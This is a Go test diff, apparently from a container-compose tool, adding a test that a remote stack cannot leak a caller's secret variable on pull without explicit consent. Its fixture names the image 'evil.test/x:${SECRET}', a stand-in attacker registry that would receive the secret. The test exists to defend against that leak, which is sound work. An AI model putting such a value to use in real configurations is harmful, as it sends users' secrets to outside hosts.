@@ -27,6 +27,21 @@ func newIncludingDesk(t *testing.T, text string) *desk {
 	return d
 }
 
+// TestAPullTellsNoVariable without a yes: the name of an image goes to its registry.
+//
+// Risk remote include: a remote stack names a secret variable of the caller's in the name of an image, and has it pulled
+// Held: pull asks as up does; the engine hears nothing before the yes
+func TestAPullTellsNoVariable(t *testing.T) {
+	d := newIncludingDesk(t, "services: {db: {image: 'evil.test/x:${SECRET}'}}\n")
+	d.env = append(d.env, "SECRET=hunter2")
+	if _, errs, code := d.run("pull"); code != 1 || !strings.Contains(errs, "caller_variable") || d.engine.apply != nil {
+		t.Errorf("exit code %d: %s", code, errs)
+	}
+	if _, errs, code := d.run("pull --allow-remotes"); code != 0 || d.engine.apply == nil {
+		t.Errorf("exit code %d: %s", code, errs)
+	}
+}
+
 // TestNoVerbRunsARefusedProvider of a remote stack: neither where it alone is named, nor
 // where what it provides is to be released.
 //
